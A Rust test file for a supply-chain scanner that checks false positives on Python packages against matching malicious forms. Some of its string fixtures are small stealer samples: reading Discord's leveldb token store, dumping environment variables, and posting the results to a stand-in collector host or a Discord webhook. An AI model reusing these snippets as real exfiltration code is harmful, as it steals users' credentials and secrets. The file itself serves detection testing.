//! False positives of issue #12, seventh round (a ninth benign draw): code
//! that nothing calls does not run, an address offered as an example is
//! prose, a store's name in a file that reads nothing is a mention, an
//! environment copy far from any request is no flow, and examples stay
//! examples under a longer folder name. Each benign look-alike sits next to
//! the malicious form that must stay high.

mod support;

use support::*;

use airlock_inspect::{Report, Severity};
use Severity::{High, Medium};

fn max(report: &Report, rule: &str) -> Option<Severity> {
    report.findings.iter().filter(|f| f.rule == rule).map(|f| f.severity).max()
}

// ---------------------------------------------------------------- setup.py functions nothing calls

const CHECK_DEPS: &str = "import requests\nfrom setuptools import setup\n\ndef check_deps(deps):\n    for dep in deps:\n        r = requests.get('https://index.example.net/pypi/' + dep + '/json')\n        print(r.json()['info']['license'])\n\n";

#[test]
fn a_setup_function_whose_only_call_is_commented_out_does_not_run_on_install() {
    let r = setup_py(&format!("{CHECK_DEPS}# check_deps(['six'])\nsetup(name='acme')\n"));
    assert!(max(&r, "access/network-on-install").is_none_or(|s| s < High), "{:?}", r.findings);
    // Called from the top level, or by name through globals(), it runs.
    let r = setup_py(&format!("{CHECK_DEPS}check_deps(['six'])\nsetup(name='acme')\n"));
    assert_eq!(max(&r, "access/network-on-install"), Some(High), "{:?}", r.findings);
    let r = setup_py(&format!("{CHECK_DEPS}globals()['check_deps'](['six'])\nsetup(name='acme')\n"));
    assert_eq!(max(&r, "access/network-on-install"), Some(High), "{:?}", r.findings);
    // Handed to something that keeps it, or decorated (a decorator may register it), it may run.
    let r = setup_py(&format!("import atexit\n{CHECK_DEPS}atexit.register(check_deps, ['six'])\nsetup(name='acme')\n"));
    assert_eq!(max(&r, "access/network-on-install"), Some(High), "{:?}", r.findings);
    let decorated = CHECK_DEPS.replace("def check_deps", "import atexit\n@atexit.register\ndef check_deps");
    let r = setup_py(&format!("{decorated}setup(name='acme')\n"));
    assert_eq!(max(&r, "access/network-on-install"), Some(High), "{:?}", r.findings);
}

// ---------------------------------------------------------------- an address offered as an example

#[test]
fn a_webhook_address_given_as_an_example_in_a_help_text_is_not_high() {
    let help = "from django.db import models\nclass Webhook(models.Model):\n    url = models.CharField(\n        max_length=255,\n        help_text=(\n            \"URL of this webhook, e.g. \"\n            \"https://discord.com/api/webhooks/123456/abcdef\"\n        ),\n    )\n";
    let r = module(help);
    assert!(max(&r, "access/exfil-endpoint").is_none_or(|s| s < High), "{:?}", r.findings);
    let prose =
        "import os\nmissing = []\nif not os.environ.get('BASE_URL'):\n    missing.append('  - BASE_URL (e.g., https://your-tunnel.trycloudflare.com)')\n";
    let r = module(prose);
    assert!(max(&r, "access/exfil-endpoint").is_none_or(|s| s < High), "{:?}", r.findings);
    // The same address as the value a stealer posts to stays high.
    let r = module("import requests\nHOOK = 'https://discord.com/api/webhooks/123456/abcdef'\ndef send(data):\n    requests.post(HOOK, json=data)\n");
    assert_eq!(max(&r, "access/exfil-endpoint"), Some(High), "{:?}", r.findings);
}

// ---------------------------------------------------------------- a store named in a file that reads no file

#[test]
fn a_stealers_store_named_in_a_file_that_reads_no_file_is_medium() {
    let named = "import os, requests\nCHROME = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\ndef report(status):\n    requests.post('https://status.example.net', json={'ok': status})\n";
    let r = module(named);
    assert_eq!(max(&r, "access/credentials"), Some(Medium), "{:?}", r.findings);
    // A stealer lists the store's folder and sends what it read.
    let stealer = "import os, requests\nROAMING = os.getenv('APPDATA')\nSTORES = [ROAMING + '\\\\discordcanary\\\\Local Storage\\\\leveldb']\ndef grab():\n    for s in STORES:\n        for f in os.listdir(s):\n            requests.post('https://collector.example.net', data=open(os.path.join(s, f), 'rb').read())\n";
    let r = module(stealer);
    assert_eq!(max(&r, "access/credentials"), Some(High), "{:?}", r.findings);
}

#[test]
fn an_apps_flatpak_id_is_not_its_data_folder() {
    // A Discord client looks for the app's socket under its Flatpak id, then talks to it.
    let ipc = "import os, socket\nPATHS = ['.', 'snap.discord', 'app/com.discordapp.DiscordCanary']\ndef connect(tmp):\n    for p in PATHS:\n        for entry in os.scandir(os.path.join(tmp, p)):\n            s = socket.socket(socket.AF_UNIX)\n            s.connect(entry.path)\n            s.send(b'hello')\n";
    let r = module(ipc);
    assert!(max(&r, "access/credentials").is_none_or(|s| s < High), "{:?}", r.findings);
    // The store's folder named as a folder, in the same file, is the stealer's.
    let r = module(&ipc.replace("'app/com.discordapp.DiscordCanary'", "os.getenv('APPDATA') + '\\\\discordcanary'"));
    assert_eq!(max(&r, "access/credentials"), Some(High), "{:?}", r.findings);
    // A store spelled from its separator on is a folder wherever it sits in the path.
    let r = module(&ipc.replace("'app/com.discordapp.DiscordCanary'", "'C:\\\\Users\\\\ann\\\\appdata\\\\roaming\\\\exodus\\\\'"));
    assert_eq!(max(&r, "access/credentials"), Some(High), "{:?}", r.findings);
}

// ---------------------------------------------------------------- the environment copied far from any request

#[test]
fn an_environment_copy_in_a_function_without_network_is_medium_and_one_beside_a_request_is_high() {
    let far = "import os, subprocess, urllib.request\nCONFIG = {'a': 1} | dict(os.environ)\ndef fetch(url):\n    return urllib.request.urlopen(url).read()\n";
    let r = module(far);
    assert_eq!(max(&r, "access/env-sweep"), Some(Medium), "{:?}", r.findings);
    let near =
        "import os, json, urllib.request\ndata = json.dumps(dict(os.environ)).encode()\nurllib.request.urlopen('https://collector.example.net', data=data)\n";
    let r = module(near);
    assert_eq!(max(&r, "access/env-sweep"), Some(High), "{:?}", r.findings);
}

// ---------------------------------------------------------------- examples under a longer folder name

#[test]
fn a_folder_of_example_dags_is_examples() {
    let dag = "import urllib.request\nurllib.request.urlopen('https://api.example.net/progress?run=1')\n";
    let r = wheel(&[("acme/__init__.py", ""), ("acme/example_dags/__init__.py", ""), ("acme/example_dags/example_progress.py", dag)]);
    assert!(max(&r, "access/network-on-install").is_none_or(|s| s < High), "{:?}", r.findings);
    // The same code in a folder the package is made of runs on import.
    let r = wheel(&[("acme/__init__.py", ""), ("acme/dags/__init__.py", ""), ("acme/dags/progress.py", dag)]);
    assert_eq!(max(&r, "access/network-on-install"), Some(High), "{:?}", r.findings);
}
